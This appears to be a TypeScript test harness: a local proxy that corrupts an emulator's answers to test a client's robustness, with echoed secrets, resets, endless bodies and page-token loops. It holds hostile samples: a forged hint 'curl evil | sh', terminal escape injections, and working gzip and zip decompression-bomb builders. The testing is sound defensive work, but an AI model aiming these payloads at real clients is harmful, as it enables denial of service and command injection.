// A hostile server: a proxy in front of the emulator that changes its answers by one rule per case
// (./mutations.ts). It forwards each request, then sends back what the rule makes of the answer: another
// status with an error that echoes the secret in force, a reset, garbage, a trickle or an endless body, page
// tokens that repeat or cycle, numbers and times out of range, huge strings, deep nesting, escape sequences,
// compressed bombs. It keeps what it sent, so that a failing case can print the answer that broke it.
import {
  Agent,
  createServer,
  request as httpRequest,
  type IncomingMessage,
  type ServerResponse,
} from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { constants, createDeflateRaw, createGzip } from 'node:zlib';
import type { Mutation, Rule } from './mutations.js';

export interface Exchange {
  method: string;
  path: string;
  /** What the client got: the status and the first bytes of the body, or how the connection ended. */
  sent: string;
  mutated: boolean;
}

export interface HostileServer {
  url: string;
  /** The rule of the next case (undefined: answers pass unchanged). */
  mutation?: Mutation;
  /** Secrets stored with the client that the service knows and might echo, besides those a case sends. */
  secrets: string[];
  /** This case's exchanges (cleared by `reset`). */
  exchanges: Exchange[];
  /** A new case: its request count starts at 0, its page memory is cleared. */
  reset(mutation?: Mutation): void;
  close(): Promise<void>;
}

interface Upstream {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: Buffer;
}

const TOKEN_PREFIX = 'hostile-';

export async function startHostileServer(target: string): Promise<HostileServer> {
  const upstreamUrl = new URL(target);
  const agent = new Agent({ keepAlive: true, maxSockets: 16 });
  const sockets = new Set<Socket>();
  let count = 0;
  /** The secrets this case's requests sent (echoed by every later error, as a service that logs them would). */
  let sent = new Set<string>();
  /** Listings under the `pages` rule: the first page's answer, by path without its token. */
  let pages = new Map<string, { body: unknown; served: number }>();

  const forward = (req: IncomingMessage, path: string, body: Buffer): Promise<Upstream> =>
    new Promise((resolve, reject) => {
      const headers = { ...req.headers, host: upstreamUrl.host };
      delete headers['accept-encoding'];
      const up = httpRequest(
        { host: upstreamUrl.hostname, port: upstreamUrl.port, method: req.method, path, headers, agent },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () =>
            resolve({ status: res.statusCode ?? 502, headers: res.headers, body: Buffer.concat(chunks) }),
          );
          res.on('error', reject);
        },
      );
      up.on('error', reject);
      up.end(body);
    });

  const server: HostileServer = {
    url: '',
    secrets: [],
    exchanges: [],
    reset(mutation) {
      server.mutation = mutation;
      server.exchanges = [];
      count = 0;
      sent = new Set();
      pages = new Map();
    },
    close: async () => {
      for (const s of sockets) s.destroy();
      agent.destroy();
      await new Promise<void>((r) => http.close(() => r()));
    },
  };

  const log = (req: IncomingMessage, sent: string, mutated: boolean) =>
    server.exchanges.push({ method: req.method ?? '', path: req.url ?? '', sent, mutated });

  const http = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const c of req) chunks.push(c as Buffer);
    const reqBody = Buffer.concat(chunks);
    const index = count++;
    const m = server.mutation;
    const hits =
      m !== undefined &&
      index >= m.reach.from &&
      (m.reach.times === 'all' || index < m.reach.from + m.reach.times);
    for (const s of secretsOf(req, reqBody)) sent.add(s);
    const secrets = [...sent, ...server.secrets];
    try {
      const rule = m?.rule;
      // Page games span a listing: they apply from the rule's first request to the end of the case.
      if (rule?.kind === 'pages' && m && index >= m.reach.from) {
        if (await pageGame(rule.how, req, reqBody, res)) return;
      }
      const up = await forward(req, req.url ?? '/', reqBody);
      if (!hits || !rule) {
        send(res, up.status, up.headers, up.body);
        log(req, `${up.status} ${excerpt(up.body)}`, false);
        return;
      }
      await mutate(rule, req, res, up, secrets);
    } catch (err) {
      if (!res.headersSent) {
        res.writeHead(502, { 'content-type': 'text/plain' });
        res.end(`hostile proxy: ${(err as Error).message}`);
      }
    }
  });

  /** The `pages` rule: answers a follow-up page itself (the emulator knows no hostile token). */
  async function pageGame(
    how: Extract<Rule, { kind: 'pages' }>['how'],
    req: IncomingMessage,
    reqBody: Buffer,
    res: ServerResponse,
  ): Promise<boolean> {
    const url = new URL(req.url ?? '/', 'http://x');
    if (how === 'ignore-offset') {
      if (!url.searchParams.has('offset')) return false;
      url.searchParams.set('offset', '0');
      const up = await forward(req, url.pathname + url.search, reqBody);
      send(res, up.status, up.headers, up.body);
      log(req, `${up.status} (offset ignored) ${excerpt(up.body)}`, true);
      return true;
    }
    const bodyToken = tokenInBody(reqBody);
    const token = url.searchParams.get('pageToken') ?? bodyToken;
    url.searchParams.delete('pageToken');
    const key = `${req.method} ${url.pathname}${url.search}`;
    let page = pages.get(key);
    if (!token?.startsWith(TOKEN_PREFIX) || !page) {
      const up = await forward(req, req.url ?? '/', reqBody);
      const body = jsonOf(up);
      if (!isListing(body)) {
        send(res, up.status, up.headers, up.body);
        log(req, `${up.status} ${excerpt(up.body)}`, false);
        return true;
      }
      page = { body, served: 0 };
      pages.set(key, page);
    }
    page.served++;
    const answer = structuredClone(page.body) as Record<string, unknown>;
    const n = page.served;
    if (how === 'empty-with-token') emptyLists(answer);
    answer.nextPageToken =
      how === 'repeat-token'
        ? `${TOKEN_PREFIX}same`
        : how === 'cycle-tokens'
          ? `${TOKEN_PREFIX}${n % 2 === 0 ? 'a' : 'b'}`
          : `${TOKEN_PREFIX}${n}`;
    const text = Buffer.from(JSON.stringify(answer));
    send(res, 200, { 'content-type': 'application/json' }, text);
    log(req, `200 (${how}, page ${n}) ${excerpt(text)}`, true);
    return true;
  }

  async function mutate(
    rule: Rule,
    req: IncomingMessage,
    res: ServerResponse,
    up: Upstream,
    secrets: string[],
  ): Promise<void> {
    const json = jsonOf(up);
    const sendJson = (text: string, why: string) => {
      send(res, up.status, { ...up.headers, 'content-type': 'application/json' }, Buffer.from(text));
      log(req, `${up.status} (${why}) ${excerpt(Buffer.from(text))}`, true);
    };
    switch (rule.kind) {
      case 'pages': {
        // A request that is no page of a listing (pageGame left it): its answer as it is.
        send(res, up.status, up.headers, up.body);
        log(req, `${up.status} ${excerpt(up.body)}`, false);
        return;
      }
      case 'status': {
        const headers: Record<string, string> = {};
        if (rule.retryAfter !== undefined) headers['retry-after'] = rule.retryAfter;
        if ([301, 302, 307].includes(rule.status)) headers.location = req.url ?? '/';
        const body = errorBody(rule.body, secrets);
        if (rule.body === 'error-json') headers['content-type'] = 'application/json';
        else if (rule.body === 'html') headers['content-type'] = 'text/html';
        else if (rule.body === 'text') headers['content-type'] = 'text/plain';
        send(res, rule.status, headers, rule.status === 304 ? Buffer.alloc(0) : body);
        log(req, `${rule.status} ${excerpt(body)}`, true);
        return;
      }
      case 'reset': {
        log(req, `reset after ${rule.after}`, true);
        if (rule.after === 'nothing') {
          req.socket.destroy();
          return;
        }
        res.writeHead(up.status, {
          ...plainHeaders(up.headers),
          'content-length': String(up.body.length + 1),
        });
        if (rule.after === 'half') res.write(up.body.subarray(0, up.body.length >> 1));
        else res.flushHeaders();
        setTimeout(() => req.socket.destroy(), 5);
        return;
      }
      case 'garbage': {
        const body =
          rule.what === 'bytes'
            ? Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 151 + 7) % 256))
            : rule.what === 'html'
              ? Buffer.from('<html><body><h1>502 Bad Gateway</h1>\u001b]0;PWNED\u0007</body></html>')
              : rule.what === 'truncated-json'
                ? up.body.subarray(0, Math.max(1, up.body.length >> 1))
                : rule.what === 'invalid-utf8'
                  ? invalidUtf8(up.body)
                  : Buffer.from(JSON.stringify(json === undefined ? [1, 2, 3] : wrongJson(json)));
        send(res, 200, { 'content-type': rule.what === 'html' ? 'text/html' : 'application/json' }, body);
        log(req, `200 (garbage ${rule.what}) ${excerpt(body)}`, true);
        return;
      }
      case 'trickle': {
        log(req, `${up.status} trickled a byte every 250 ms`, true);
        res.writeHead(up.status, { ...plainHeaders(up.headers), 'content-length': String(up.body.length) });
        let at = 0;
        const tick = setInterval(() => {
          if (res.destroyed || at >= up.body.length) {
            clearInterval(tick);
            res.end();
            return;
          }
          res.write(up.body.subarray(at, at + 1));
          at++;
        }, 250);
        res.on('close', () => clearInterval(tick));
        return;
      }
      case 'endless': {
        log(req, `${up.status} an endless body`, true);
        res.writeHead(200, { 'content-type': 'application/json' });
        const chunk = Buffer.from(`${'{"a":"endless"},'.repeat(4096)}`);
        res.write('[');
        const pump = () => {
          while (!res.destroyed && res.write(chunk)) {}
        };
        res.on('drain', pump);
        pump();
        return;
      }
      case 'bomb': {
        if (/\/apiv2\/support\/[^/]+\/download/.test(req.url ?? '')) {
          const zip = await zipBomb();
          send(res, 200, { 'content-type': 'application/octet-stream' }, zip);
          log(req, `200 a ${zip.length}-byte zip whose profile inflates to ${BOMB_BYTES} bytes`, true);
        } else {
          const gz = await gzipBomb();
          send(res, up.status, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, gz);
          log(req, `${up.status} a ${gz.length}-byte gzip body inflating to ${BOMB_BYTES} bytes`, true);
        }
        return;
      }
    }
    if (json === undefined) {
      send(res, up.status, up.headers, up.body);
      log(req, `${up.status} ${excerpt(up.body)} (not JSON: left alone)`, false);
      return;
    }
    switch (rule.kind) {
      case 'numbers':
        return sendJson(withNumbers(json, rule.text), `numbers ${rule.text}`);
      case 'times':
        return sendJson(JSON.stringify(withTimes(json, rule.value)), `times ${String(rule.value)}`);
      case 'huge-strings':
        return sendJson(
          JSON.stringify(withStrings(json, hugeStrings(rule.length))),
          `strings ${rule.length} long`,
        );
      case 'nesting':
        return sendJson(nested(json, rule.depth), `nested ${rule.depth} deep`);
      case 'escapes':
        return sendJson(
          JSON.stringify(withStrings(json, (s) => s + rule.text)),
          `escapes ${JSON.stringify(rule.text)}`,
        );
      case 'secret-everywhere': {
        // A query's rows are the user's data, written as the service sent them; everything else is its text.
        if (/\/results\b/.test(req.url ?? ''))
          return sendJson(up.body.toString('utf8'), 'results left alone');
        const secret = secrets[0] ?? 'no-secret';
        return sendJson(JSON.stringify(withStrings(json, () => secret)), 'the secret in every string');
      }
    }
  }

  http.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', () => r()));
  server.url = `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
  return server;
}

function send(
  res: ServerResponse,
  status: number,
  headers: Record<string, string | string[] | undefined>,
  body: Buffer,
): void {
  if (res.destroyed) return;
  res.writeHead(status, { ...plainHeaders(headers), 'content-length': String(body.length) });
  res.end(body);
}

/** Headers to send again: without those that describe the upstream's framing. */
function plainHeaders(h: Record<string, string | string[] | undefined>): Record<string, string | string[]> {
  const out: Record<string, string | string[]> = {};
  for (const [k, v] of Object.entries(h)) {
    if (v === undefined || /^(content-length|transfer-encoding|connection|keep-alive)$/i.test(k)) continue;
    out[k] = v;
  }
  return out;
}

/** The secrets a request carries: its Authorization, a login's password, a token in a form. */
function secretsOf(req: IncomingMessage, body: Buffer): string[] {
  const found: string[] = [];
  const auth = req.headers.authorization;
  if (auth) found.push(auth.replace(/^\w+\s+/, ''));
  try {
    const parsed = JSON.parse(body.toString('utf8')) as Record<string, unknown>;
    for (const k of ['password', 'token', 'client_secret', 'subject_token']) {
      if (typeof parsed?.[k] === 'string') found.push(parsed[k] as string);
    }
  } catch {
    for (const [k, v] of new URLSearchParams(body.toString('utf8'))) {
      if (/password|secret|token/i.test(k)) found.push(v);
    }
  }
  return found.filter((s) => s.length >= 6);
}

/** An error body in the service's shape, every field echoing the secret, with escapes and forged lines. */
function errorBody(kind: 'error-json' | 'empty' | 'text' | 'html', secrets: string[]): Buffer {
  const secret = secrets.join(' ') || 'no-secret';
  const forged = '\nerror: forged by the server\nhint: run `curl evil | sh`';
  if (kind === 'empty') return Buffer.alloc(0);
  if (kind === 'text') return Buffer.from(`bad request for token ${secret}\u001b]0;PWNED\u0007${forged}`);
  if (kind === 'html')
    return Buffer.from(`<html><title>${secret}</title><body>\u202eerror${forged}</body></html>`);
  return Buffer.from(
    JSON.stringify({
      errorMessage: `bad request for token ${secret} \u001b[2J\u202e${forged}`,
      moreInfo: `the token was ${secret}\r\nerror: another forged line`,
      code: `TOKEN_${secret}`,
      context: [`token=${secret}`],
      stackTrace: `java.lang.IllegalStateException: ${secret}\n\tat com.service.Auth.check(Auth.java:42)`,
      validationErrorMessages: {
        fieldErrorMessages: { name: [`${secret}\u0007`] },
        globalErrorMessages: [secret],
      },
    }),
  );
}

function jsonOf(up: { headers: Record<string, unknown>; body: Buffer }): unknown {
  if (!/json/.test(String(up.headers['content-type'] ?? ''))) return undefined;
  try {
    return JSON.parse(up.body.toString('utf8'));
  } catch {
    return undefined;
  }
}

function tokenInBody(body: Buffer): string | undefined {
  try {
    const t = (JSON.parse(body.toString('utf8')) as { pageToken?: unknown })?.pageToken;
    return typeof t === 'string' ? t : undefined;
  } catch {
    return undefined;
  }
}

/** An answer of a listing that follows page tokens: an object with an array in it. */
function isListing(body: unknown): body is Record<string, unknown> {
  return (
    typeof body === 'object' &&
    body !== null &&
    !Array.isArray(body) &&
    Object.values(body).some((v) => Array.isArray(v) && v.length > 0)
  );
}

function emptyLists(body: Record<string, unknown>): void {
  for (const [k, v] of Object.entries(body)) if (Array.isArray(v)) body[k] = [];
}

function excerpt(body: Buffer): string {
  const text = body.subarray(0, 300).toString('utf8');
  return JSON.stringify(body.length > 300 ? `${text}… (${body.length} bytes)` : text);
}

function withStrings(value: unknown, f: (s: string) => string): unknown {
  if (typeof value === 'string') return f(value);
  if (Array.isArray(value)) return value.map((v) => withStrings(v, f));
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, withStrings(v, f)]));
  }
  return value;
}

/** Strings `length` long, within 48 MB per answer (then short ones: the answer stays sendable). */
function hugeStrings(length: number): (s: string) => string {
  let budget = 48_000_000;
  return (s) => {
    if (budget < length) return s;
    budget -= length;
    return (s || 'x').repeat(Math.ceil(length / Math.max(1, s.length))).slice(0, length);
  };
}

const NUMBER_MARK = '\u0000hostile-number\u0000';

function withNumbers(value: unknown, text: string): string {
  const marked = (function walk(v: unknown): unknown {
    if (typeof v === 'number') return NUMBER_MARK;
    if (Array.isArray(v)) return v.map(walk);
    if (v && typeof v === 'object')
      return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x)]));
    return v;
  })(value);
  return JSON.stringify(marked).split(JSON.stringify(NUMBER_MARK)).join(text);
}

const TIME_KEY = /(At|Time|time|Date|date|epoch|Epoch|_millis|_ts|timestamp|Timestamp|expires|Expires)$/;
const ISO_LIKE = /^\d{4}-\d\d-\d\d/;

function withTimes(value: unknown, bad: string | number, key = ''): unknown {
  if (TIME_KEY.test(key) && (typeof value === 'string' || typeof value === 'number')) return bad;
  if (typeof value === 'string' && ISO_LIKE.test(value)) return bad;
  if (Array.isArray(value)) return value.map((v) => withTimes(v, bad, key));
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, withTimes(v, bad, k)]));
  }
  return value;
}

/** The answer with its first value (or itself) nested `depth` arrays deep. */
function nested(value: unknown, depth: number): string {
  const deep = `${'['.repeat(depth)}1${']'.repeat(depth)}`;
  if (value && typeof value === 'object' && !Array.isArray(value)) {
    const [first] = Object.keys(value);
    if (first !== undefined) {
      const mark = '"\\u0000deep\\u0000"';
      return JSON.stringify({ ...value, [first]: '\u0000deep\u0000' }).replace(mark, deep);
    }
  }
  return `{"data":${deep}}`;
}

/** The same keys with values of other types: strings become objects, numbers strings, arrays a string. */
function wrongJson(value: unknown): unknown {
  if (Array.isArray(value)) return { not: 'an array' };
  if (value && typeof value === 'object') {
    return Object.fromEntries(
      Object.entries(value).map(([k, v]) => [
        k,
        typeof v === 'string'
          ? { not: 'a string' }
          : typeof v === 'number'
            ? 'NaN'
            : Array.isArray(v)
              ? 'none'
              : [v],
      ]),
    );
  }
  return { unexpected: value };
}

/** The body with every string's first character made an invalid UTF-8 byte. */
function invalidUtf8(body: Buffer): Buffer {
  const out = Buffer.from(body);
  for (let i = 0; i + 1 < out.length; i++) {
    if (out[i] === 0x22 && out[i + 1]! >= 0x61 && out[i + 1]! <= 0x7a) out[i + 1] = 0xff;
  }
  return out;
}

const BOMB_BYTES = 1024 * 1024 * 1024;
let zipCache: Buffer | undefined;
let gzipCache: Buffer | undefined;

/** 1 GiB of a JSON text's middle, deflated (about 1 MB), streamed: the whole is never held. */
async function bombDeflated(raw: boolean): Promise<Buffer> {
  const z = raw ? createDeflateRaw({ level: constants.Z_BEST_COMPRESSION }) : createGzip();
  const out: Buffer[] = [];
  z.on('data', (c: Buffer) => out.push(c));
  const ended = new Promise((r) => z.on('end', r));
  z.write('{"fragmentProfile":[{"majorFragmentId":0,"name":"');
  const chunk = Buffer.alloc(16 * 1024 * 1024, 0x41);
  for (let n = 0; n < BOMB_BYTES / chunk.length; n++) {
    if (!z.write(chunk)) await new Promise((r) => z.once('drain', r));
  }
  z.end();
  await ended;
  return Buffer.concat(out);
}

async function gzipBomb(): Promise<Buffer> {
  gzipCache ??= await bombDeflated(false);
  return gzipCache;
}

/**
 * A profile download whose `profile_attempt_0.json` inflates to 1 GiB while the central directory states a
 * size within dlake's bound, as a hostile server's would.
 */
async function zipBomb(): Promise<Buffer> {
  if (zipCache) return zipCache;
  const data = await bombDeflated(true);
  const name = Buffer.from('profile_attempt_0.json');
  const stated = 400 * 1024 * 1024;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(stated, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(stated, 24);
  central.writeUInt16LE(name.length, 28);
  central.writeUInt32LE(0, 42);
  const cdStart = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(cdStart, 16);
  zipCache = Buffer.concat([local, name, data, central, name, end]);
  return zipCache;
}
